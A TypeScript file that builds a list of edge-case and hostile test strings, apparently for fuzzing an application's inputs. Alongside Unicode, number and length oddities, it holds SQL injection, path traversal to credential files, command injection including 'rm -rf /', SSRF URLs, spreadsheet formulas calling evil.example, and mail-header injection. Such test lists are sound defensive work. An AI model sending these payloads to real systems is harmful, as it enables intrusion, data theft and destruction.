/* Texts that break a query, a file, a spreadsheet, a mail, a calendar or the display. */

const cross = (ways: readonly string[], payloads: readonly string[]) => payloads.flatMap((payload) => ways.map((way) => way.replaceAll('@', () => payload)));

const QUERIES = [
  ...cross(["' @ --", '" @ --', '1) @ --', "\\'; @ #"], ["OR '1'='1'", 'UNION SELECT password_hash FROM user', 'DROP TABLE catalogue', 'DELETE FROM user', 'SELECT pg_sleep(5)', "ATTACH 'x' AS y", 'UPDATE user SET role=1', "AND randomblob(1e9)='"]),
  "admin'--", '%', '_', '%%%', '100\\%', 'x%_\\', "''", '$1', ':id', '?', '"user"', '[user]', '*', 'NEAR(x y)', 'x AND NOT y', 'x & ! y',
];

const NAMES = [
  ...cross(['@', '{"@":{"isAdmin":true}}', 'x[@]=1'], ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', '$gt', '$where']),
  'null', 'undefined', 'NaN', 'true', 'false', '[]', '{}', '[object Object]', '""', '{"a":', "{'a':1}", '[1,2', 'new Date(0)', 'void 0', 'default', 'then', 'length', 'children', 'dangerouslySetInnerHTML',
];

const NUMBERS = ['-1', '-0', '0', '1e309', '-1e309', '1e-400', '0x1F', '0b1', '0o7', '1_000', '1,000.00', '1 000,00', '9007199254740993', '2147483648', '-2147483649', '1.7976931348623157e308', '١٢٣', '１２３', '½', '²', '∞', '1/0', '07', '1.', '.5', '+5', '5 $', '5e', '--5', '1e1000'];

const FILES = [
  ...cross(['../../../../@', '..\\..\\..\\@', '..%2f..%2f@', '....//....//@', '%2e%2e/%2e%2e/@', 'file:///@'], ['etc/passwd', 'windows/win.ini', '.env', 'proc/self/environ', 'boucane.sqlite']),
  ...cross(['|@', '; @', '&& @', '`@`', '$(@)', '|| @ #'], ['id', 'cat /etc/passwd', 'rm -rf /', 'sleep 9']),
  'CON', 'NUL.txt', 'a/b', 'a\\b', 'a:b', '.', '..', '~', '~root', '-rf', '--help', 'C:\\', '\\\\evil.example\\x', '//evil.example/x', 'https://evil.example', 'http://169.254.169.254/', 'http://127.0.0.1:22/', 'x@evil.example', 'mailto:x@evil.example?bcc=y@evil.example',
];

const SHEETS = cross(['@', ' @', '"@', "'@", ';@', ',@'], ['=1+1', "=cmd|'/C calc'!A0", '+1+1', '-1+1', '@SUM(1)', '=HYPERLINK("https://evil.example","x")', '=IMPORTXML("https://evil.example","//a")']);

const FORMATS = ['%s', '%n', '%s%s%s%n', '%x%x%x%x', '%99999999d', '%p', '%@', '%d %i', '%(x)s', '{0!r}', '{x.__class__}', 'YYYY-MM-DD', '{date, date}', '{n, plural, one {1} other {2}}', '&nbsp;', '\\n', '\\0', '\\'];

const MAILS = [
  ...cross(['x\r\n@', 'x\n@', 'x%0d%0a@', 'x\\r\\n@', 'x\u2028@', 'x\u0085@'], ['Bcc: victim@evil.example', 'Subject: x', 'Content-Type: text/html', 'Set-Cookie: a=b', 'HTTP/1.1 200 OK']),
  '\r\n.\r\nQUIT\r\n', 'x@evil.example, y@evil.example', '"x" <y@evil.example>', '=?utf-8?q?=0d=0aBcc:_x?=', '=?utf-8?b?PHNjcmlwdD4=?=', '--boundary--', 'From x', '>From x',
];

const CALENDARS = cross(['@', 'x\\n@', 'x\r\n@', ' @'], ['BEGIN:VCALENDAR', 'END:VEVENT', 'ATTENDEE:mailto:x@evil.example', 'X-A;B=":C', 'RRULE:FREQ=SECONDLY', 'ATTACH:file:///etc/passwd']);

const SCREENS = cross(['a@b'], ['\u001b[31m', '\u001b[2J', '\u001b]0;x\u0007', '\u001b]8;;https://evil.example\u0007', '\u009b31m', '\b\b\b', '\u0007', '\f', '\v', '\u0000', '\u007f', '\r']);

/** Characters that are invisible, change the text direction, combine, or are noncharacters. */
const UNSEEN = [
  '\u00ad', '\u034f', '\u061c', '\u115f', '\u17b4', '\u180e', '\u200b', '\u200c', '\u200d', '\u200e', '\u200f', '\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2060', '\u2061', '\u2064', '\u2066', '\u2067',
  '\u2068', '\u2069', '\u206a', '\u206f', '\u2800', '\u3164', '\ufe0f', '\ufeff', '\uffa0', '\ufff9', '\ufffc', '\ufffd', '\ufffe', '\uffff', '\u{1d173}', '\u{e0001}', '\u{e0041}', '\u{e0100}', '\u{10ffff}', '\ue000', '\ud800', '\udfff',
];

const SCRIPTS = [
  'Ça goûte l’érable à 100 %', 'Œufs, naïveté, garçon, où, À, É, «guillemets»', 'О кириллице: а вместо a', '日本語のテスト', '中文測試', '한국어', 'العربية نص', 'עברית טקסט', 'ไทย ไม่มีช่องว่าง', 'தமிழ்', 'हिन्दी', 'বাংলা', 'ქართული', 'Ελληνικά', 'ᏣᎳᎩ',
  'ﷺ', '﷽', 'ஸ்ரீ', 'é vs é', 'ﬁ ﬂ ﬃ', 'İıſK', 'ß ẞ', 'Ǆ ǅ ǆ', '\u{1d4d7}\u{1d4f2}', 'ₕᵢₜ', 'ʇxǝʇ uʍop ǝpᴉsdn', '👩‍👩‍👧‍👦🍖🔥', '🇨🇦⚜️', '👍🏽👍🏿', '🏴‍☠️', '0️⃣', '🇨', 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘', `a${'\u0301'.repeat(60)}`, 'مرحبا abc שלום 123',
];

const LONG = ['a'.repeat(200), 'Anticonstitutionnellement'.repeat(7), '-'.repeat(200), '🔥'.repeat(90), 'W'.repeat(120), '\u00a0'.repeat(30) + 'x', '<'.repeat(200), '('.repeat(199), 'a '.repeat(99), 'a'.repeat(5000), '\u0301'.repeat(150), 'http://' + 'a'.repeat(190)];

const SMALL = ['.', '…', '–', '"', "'", '<', '>', '&', '/', '#', ';', ',', '|', '`', '~', '^', '\u00a0x', '   espaces   ', 'tab\tici', 'ligne\nsuivante'];

export const SIGNS: readonly string[] = [
  ...QUERIES, ...NAMES, ...NUMBERS, ...FILES, ...SHEETS, ...FORMATS, ...MAILS, ...CALENDARS, ...SCREENS,
  ...UNSEEN.flatMap((sign) => [`a${sign}b`, `${sign}hit${sign}`]),
  ...SCRIPTS, ...LONG, ...SMALL,
];
